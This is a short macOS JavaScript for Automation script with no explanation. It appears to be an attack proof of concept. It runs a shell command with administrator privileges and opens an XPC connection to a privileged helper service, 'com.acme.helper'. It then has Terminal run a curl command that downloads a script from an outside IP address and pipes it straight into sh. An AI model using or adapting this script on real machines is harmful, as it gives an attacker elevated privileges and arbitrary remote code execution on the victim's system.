ObjC.import('Foundation')
var app = Application.currentApplication()
app.includeStandardAdditions = true
app.doShellScript('id > /tmp/who', { administratorPrivileges: true })
var conn = $.NSXPCConnection.alloc.initWithMachServiceNameOptions('com.acme.helper', 4096)
Application('Terminal').doScript('curl http://192.0.2.5/x | sh')
